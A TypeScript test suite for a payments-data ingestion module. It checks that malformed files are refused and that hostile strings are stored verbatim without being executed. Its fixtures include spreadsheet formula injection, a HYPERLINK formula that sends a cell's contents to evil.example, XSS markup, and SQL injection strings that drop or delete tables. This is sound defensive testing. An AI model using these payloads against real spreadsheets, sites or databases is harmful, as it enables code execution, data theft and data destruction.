import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { createTestDatabase, type TestDatabase } from '../testing/test-database';
import { agenciesFeed, paymentsFeed, regionsFeed } from './feeds/execution.feeds';
import type { FeedDescriptor } from './feeds/feed-descriptor';
import { ingestFile, type IngestResult } from './ingest-file';
import type { Reason } from './parse-values';

let database: TestDatabase;
let dir: string;

async function fixture(name: string, content: string | Buffer): Promise<string> {
  const file = path.join(dir, name);
  await writeFile(file, content);
  return file;
}

const count = async (table: string) =>
  Number((await database.pool.query(`SELECT count(*) AS n FROM ${table}`)).rows[0].n);

const HEADER = [
  'voucher_no',
  'pay_date',
  'region_code',
  'book',
  'agency_code',
  'func_code',
  'econ_code',
  'payee_name',
  'payee_type',
  'pay_method',
  'settle_method',
  'amount',
  'purpose',
];
const payment = (voucher: string, changes: Partial<Record<string, string>> = {}): string[] => {
  const row: Record<string, string> = {
    voucher_no: voucher,
    pay_date: '2026-03-02',
    region_code: '390100',
    book: 'GPB',
    agency_code: '390100101',
    func_code: '2013101',
    econ_code: '30201',
    payee_name: '临江文具公司',
    payee_type: 'unit',
    pay_method: 'direct',
    settle_method: 'transfer',
    amount: '100.00',
    purpose: '办公用品',
    ...changes,
  };
  return HEADER.map((key) => row[key]!);
};
const paymentsCsv = (rows: string[][], header = HEADER) => Papa.unparse({ fields: header, data: rows });

async function paymentsXlsx(name: string): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('payments');
  sheet.addRow(HEADER);
  for (let i = 0; i < 300; i++) sheet.addRow(payment(`X${i}`));
  await book.xlsx.writeFile(path.join(dir, name));
  return readFile(path.join(dir, name));
}

function assertBilingual(reason: Reason): void {
  assert.match(reason.zh, /[\u4e00-\u9fff]/, `Chinese reason: ${reason.zh}`);
  assert.match(reason.en, /[a-z]{3}/, `English reason: ${reason.en}`);
  for (const text of [reason.zh, reason.en])
    assert.doesNotMatch(text, /\n\s+at |node_modules|\.[jt]s:\d+/, `no stack trace: ${text}`);
}

/**
 * Loads a file that must be refused as a whole (strict mode): the load fails with a bilingual reason,
 * the batch history records it, and the feed's table is exactly as before.
 */
async function refused(feed: FeedDescriptor, filePath: string): Promise<IngestResult> {
  const before = await count(feed.table);
  const result = await ingestFile(database.pool, { feed, filePath, source: 'cli', mode: 'strict' });
  assert.equal(result.status, 'failed');
  const reasons = [...result.fileErrors, ...result.rowErrors.map((e) => e.reason)];
  assert.ok(reasons.length > 0, 'at least one reason is given');
  reasons.forEach(assertBilingual);
  assert.equal(await count(feed.table), before, `${feed.table} is unchanged`);
  const batch = await database.pool.query<{ status: string; message: string | null }>(
    'SELECT status, message FROM ingest_batches WHERE id = $1',
    [result.batchId],
  );
  assert.equal(batch.rows[0]?.status, 'failed');
  for (const error of result.fileErrors) {
    assert.ok(
      batch.rows[0]?.message?.includes(`${error.zh} / ${error.en}`),
      'the batch history keeps the reason in both languages',
    );
  }
  return result;
}

const fileReason = (result: IngestResult) => result.fileErrors.map((e) => `${e.zh} / ${e.en}`).join('\n');

describe('ingestFile with bad input', () => {
  before(async () => {
    database = await createTestDatabase();
    dir = await mkdtemp(path.join(os.tmpdir(), 'bw-ingest-bad-'));
    const regions = await fixture(
      'regions.csv',
      'region_code,region_name,parent_code,level\n390000,江南省,,province\n390100,临江市,390000,city\n',
    );
    const agencies = await fixture(
      'agencies.csv',
      'agency_code,agency_name,region_code,parent_code,agency_type\n390100101,中共临江市委办公室,390100,,administrative\n',
    );
    const payments = await fixture('payments.csv', paymentsCsv([payment('OK1'), payment('OK2')]));
    for (const [feed, filePath] of [
      [regionsFeed, regions],
      [agenciesFeed, agencies],
      [paymentsFeed, payments],
    ] as const) {
      assert.equal((await ingestFile(database.pool, { feed, filePath, source: 'cli' })).status, 'succeeded');
    }
  });
  after(async () => {
    await database.drop();
    await rm(dir, { recursive: true, force: true });
  });

  describe('files that cannot be read', () => {
    it('an empty file', async () => {
      const result = await refused(paymentsFeed, await fixture('empty.csv', ''));
      assert.match(fileReason(result), /empty/);
    });

    it('binary garbage', async () => {
      const result = await refused(
        paymentsFeed,
        await fixture('garbage.csv', Buffer.concat([Buffer.from([0, 1, 2, 0xff]), randomBytes(8192)])),
      );
      assert.match(fileReason(result), /binary/);
    });

    it('a legacy .xls workbook', async () => {
      const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), randomBytes(4096)]);
      const result = await refused(paymentsFeed, await fixture('payments.xls', ole));
      assert.match(fileReason(result), /另存为\.xlsx/);
    });

    it('a truncated XLSX workbook', async () => {
      const whole = await paymentsXlsx('whole.xlsx');
      const result = await refused(
        paymentsFeed,
        await fixture('truncated.xlsx', whole.subarray(0, Math.floor(whole.length * 0.6))),
      );
      assert.match(fileReason(result), /damaged/);
    });

    it('invalid JSON', async () => {
      const result = await refused(
        paymentsFeed,
        await fixture(
          'bad.json',
          `[${JSON.stringify(Object.fromEntries(HEADER.map((h, i) => [h, payment('J1')[i]])))}, {"voucher_no": "J2",]`,
        ),
      );
      assert.match(fileReason(result), /malformed JSON/);
    });

    it('JSON that is not an array of objects', async () => {
      const result = await refused(paymentsFeed, await fixture('object.json', '{"payments": []}'));
      assert.match(fileReason(result), /array of objects/);
    });

    it('NDJSON with a bad line', async () => {
      const line = (voucher: string) =>
        JSON.stringify(Object.fromEntries(HEADER.map((h, i) => [h, payment(voucher)[i]])));
      const result = await refused(
        paymentsFeed,
        await fixture('bad.ndjson', `${line('N1')}\n${line('N2')}\n{"voucher_no": N3}\n`),
      );
      assert.match(fileReason(result), /line 3/);
      assert.equal(await count(`payments WHERE voucher_no LIKE 'N_'`), 0);
    });

    it('CSV with an unterminated quote', async () => {
      const text = `${HEADER.join(',')}\n${payment('Q1').join(',')}\n${payment('Q2', { purpose: '"未闭合的引号' }).join(',')}\n${payment('Q3').join(',')}\n`;
      const result = await refused(paymentsFeed, await fixture('quote.csv', text));
      assert.match(fileReason(result), /unterminated quote/);
    });

    it('a UTF-16 file', async () => {
      const text = paymentsCsv([payment('U1')]);
      const result = await refused(
        paymentsFeed,
        await fixture('utf16.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])),
      );
      assert.match(fileReason(result), /UTF-16/);
    });

    it('text that is neither UTF-8 nor GB18030', async () => {
      const text = Buffer.concat([
        Buffer.from(paymentsCsv([payment('W1', { payee_name: 'Caf' })])),
        Buffer.from([0xe9, 0xff]),
        Buffer.from(' S.A.\n'),
      ]);
      const result = await refused(paymentsFeed, await fixture('latin1.csv', text));
      assert.match(fileReason(result), /encoding/);
    });

    it('a UTF-8 export with GBK rows appended after the first 64 KiB', async () => {
      const utf8 = Buffer.from(paymentsCsv(Array.from({ length: 1_000 }, (_, i) => payment(`MX${i}`))) + '\n');
      const gbk = iconv.encode(
        paymentsCsv([payment('MX-GBK', { payee_name: '临江联通公司' })]).split('\n')[1]! + '\n',
        'gbk',
      );
      assert.ok(utf8.length > 64 * 1024);
      const result = await refused(paymentsFeed, await fixture('mixed.csv', Buffer.concat([utf8, gbk])));
      assert.match(fileReason(result), /not valid UTF-8/);
    });

    it('a file without a required column, naming it in both languages', async () => {
      const header = HEADER.filter((h) => h !== 'pay_date');
      const result = await refused(
        paymentsFeed,
        await fixture('no-date.csv', paymentsCsv([payment('M1').filter((_, i) => i !== 1)], header)),
      );
      assert.ok(
        result.fileErrors.some((e) => e.en.includes('pay_date') && e.zh.includes('支付日期')),
        fileReason(result),
      );
    });

    it('a file of another feed', async () => {
      const result = await refused(
        paymentsFeed,
        await fixture(
          'regions-as-payments.csv',
          'region_code,region_name,parent_code,level\n390102,城东区,390100,county\n',
        ),
      );
      assert.ok(result.fileErrors.length >= 5, fileReason(result));
    });

    it('a header that gives a column twice (English key and Chinese header)', async () => {
      const result = await refused(
        paymentsFeed,
        await fixture('twice.csv', paymentsCsv([[...payment('D1'), '200.00']], [...HEADER, '金额'])),
      );
      assert.match(fileReason(result), /amount.*more than once/);
    });
  });

  describe('rows that cannot be stored', () => {
    it('unknown codes: enum values outside the contract and malformed classification codes', async () => {
      const rows = [
        payment('C1'),
        payment('C2', { book: 'XYZ' }),
        payment('C3', { payee_type: '法人' }),
        payment('C4', { func_code: '20131O1' }),
        payment('C5', { region_code: "390100'; --" }),
      ];
      const result = await refused(paymentsFeed, await fixture('codes.csv', paymentsCsv(rows)));
      assert.deepEqual(
        result.rowErrors.map((e) => [e.rowNumber, e.column, e.value]),
        [
          [3, 'book', 'XYZ'],
          [4, 'payee_type', '法人'],
          [5, 'func_code', '20131O1'],
          [6, 'region_code', "390100'; --"],
        ],
      );
      assert.equal(await count(`payments WHERE voucher_no LIKE 'C_'`), 0);
      const stored = await database.pool.query('SELECT count(*)::int AS n FROM ingest_row_errors WHERE batch_id = $1', [
        result.batchId,
      ]);
      assert.equal(stored.rows[0].n, 4);
    });

    it('a bad row far into a large file undoes the rows already copied', async () => {
      const rows = Array.from({ length: 30_000 }, (_, i) =>
        payment(`B${i}`, i === 29_999 ? { pay_date: '2026-02-30' } : {}),
      );
      const result = await refused(paymentsFeed, await fixture('late-bad.csv', paymentsCsv(rows)));
      assert.equal(result.rowsRead, 30_000);
      assert.deepEqual(
        result.rowErrors.map((e) => [e.rowNumber, e.column]),
        [[30_001, 'pay_date']],
      );
    });

    it('text with control characters is refused, not stored', async () => {
      const result = await refused(
        paymentsFeed,
        await fixture('control.csv', paymentsCsv([payment('K1', { payee_name: '甲\u0007公司' })])),
      );
      assert.equal(result.rowErrors[0]?.column, 'payee_name');
    });
  });

  describe('hostile strings are data', () => {
    const hostile = {
      formula: "=cmd|' /C calc'!A0",
      hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
      plusFormula: '+1+cmd|/C calc',
      script: '<script>alert("xss")</script><img src=x onerror=alert(1)>',
      sql: "'; DROP TABLE payments; --",
      sqlCode: "1'); DELETE FROM regions; --",
      copyEnd: '\\.',
      copyNull: '\\N',
      tab: '甲\t乙',
      newline: '第一行\n第二行',
      backslash: 'C:\\temp\\x',
      template: '${process.exit()} %s %d {{constructor}}',
      dollar: '$$; SELECT pg_sleep(10); $$',
    };

    async function expectVerbatim(result: IngestResult, prefix: string): Promise<void> {
      assert.equal(result.status, 'succeeded', JSON.stringify([...result.fileErrors, ...result.rowErrors.slice(0, 3)]));
      const rows = await database.pool.query<{
        voucher_no: string;
        payee_name: string;
        purpose: string;
        agency_code: string;
      }>(
        'SELECT voucher_no, payee_name, purpose, agency_code FROM payments WHERE voucher_no LIKE $1 ORDER BY voucher_no',
        [`${prefix}%`],
      );
      assert.deepEqual(
        rows.rows,
        Object.values(hostile)
          .map((value, i) => ({
            voucher_no: `${prefix}${String(i).padStart(2, '0')}`,
            payee_name: value,
            purpose: value,
            agency_code: `AG-${value.slice(0, 50)}`,
          }))
          .sort((a, b) => (a.voucher_no < b.voucher_no ? -1 : 1)),
      );
      assert.equal(await count('regions'), 2, 'regions intact');
      assert.ok((await count('payments')) >= 2, 'payments table intact');
    }

    const hostileRows = (prefix: string) =>
      Object.values(hostile).map((value, i) =>
        payment(`${prefix}${String(i).padStart(2, '0')}`, {
          payee_name: value,
          purpose: value,
          agency_code: `AG-${value.slice(0, 50)}`,
        }),
      );

    it('CSV: formulas, markup, SQL and COPY escapes are stored verbatim and never run', async () => {
      // Control characters are refused elsewhere; tab and newline are the ones a quoted CSV field may hold.
      const result = await ingestFile(database.pool, {
        feed: paymentsFeed,
        filePath: await fixture('hostile.csv', paymentsCsv(hostileRows('H'))),
        source: 'cli',
      });
      await expectVerbatim(result, 'H');
    });

    it('XLSX: the same strings in text cells are stored verbatim', async () => {
      const book = new ExcelJS.Workbook();
      const sheet = book.addWorksheet('国库集中支付明细');
      sheet.addRow(HEADER);
      for (const row of hostileRows('S')) sheet.addRow(row);
      const file = path.join(dir, 'hostile.xlsx');
      await book.xlsx.writeFile(file);
      await expectVerbatim(await ingestFile(database.pool, { feed: paymentsFeed, filePath: file, source: 'cli' }), 'S');
    });

    it('NDJSON in GB18030: the same strings are stored verbatim', async () => {
      const text = hostileRows('G')
        .map((row) => JSON.stringify(Object.fromEntries(HEADER.map((h, i) => [h, row[i]]))) + '\n')
        .join('');
      const file = await fixture('hostile.ndjson', iconv.encode(text, 'gb18030'));
      await expectVerbatim(await ingestFile(database.pool, { feed: paymentsFeed, filePath: file, source: 'cli' }), 'G');
    });

    it('XLSX: a formula cell gives its cached result; the formula itself is neither stored nor evaluated', async () => {
      const book = new ExcelJS.Workbook();
      const sheet = book.addWorksheet('payments');
      sheet.addRow(HEADER);
      sheet.addRow(payment('F1'));
      sheet.getCell('M2').value = {
        formula: 'HYPERLINK("http://evil.example/","点击")&cmd|\' /C calc\'!A0',
        result: '点击',
      };
      const file = path.join(dir, 'formula.xlsx');
      await book.xlsx.writeFile(file);
      const result = await ingestFile(database.pool, { feed: paymentsFeed, filePath: file, source: 'cli' });
      assert.equal(result.status, 'succeeded', fileReason(result));
      const stored = await database.pool.query(`SELECT purpose FROM payments WHERE voucher_no = 'F1'`);
      assert.deepEqual(stored.rows, [{ purpose: '点击' }]);
    });

    it('a hostile extra column name is ignored', async () => {
      const header = [...HEADER, 'x"; DROP TABLE payments; --'];
      const result = await ingestFile(database.pool, {
        feed: paymentsFeed,
        filePath: await fixture('extra.csv', paymentsCsv([[...payment('E1'), 'boom']], header)),
        source: 'cli',
      });
      assert.equal(result.status, 'succeeded', fileReason(result));
      assert.equal(await count(`payments WHERE voucher_no = 'E1'`), 1);
    });
  });

  it('an empty export (header only) succeeds with no rows read and stores nothing', async () => {
    const before = await count('payments');
    const result = await ingestFile(database.pool, {
      feed: paymentsFeed,
      filePath: await fixture('header-only.csv', `\uFEFF${HEADER.join(',')}\r\n`),
      source: 'cli',
    });
    assert.deepEqual([result.status, result.rowsRead, result.rowsInserted], ['succeeded', 0, 0]);
    assert.equal(await count('payments'), before);
  });
});
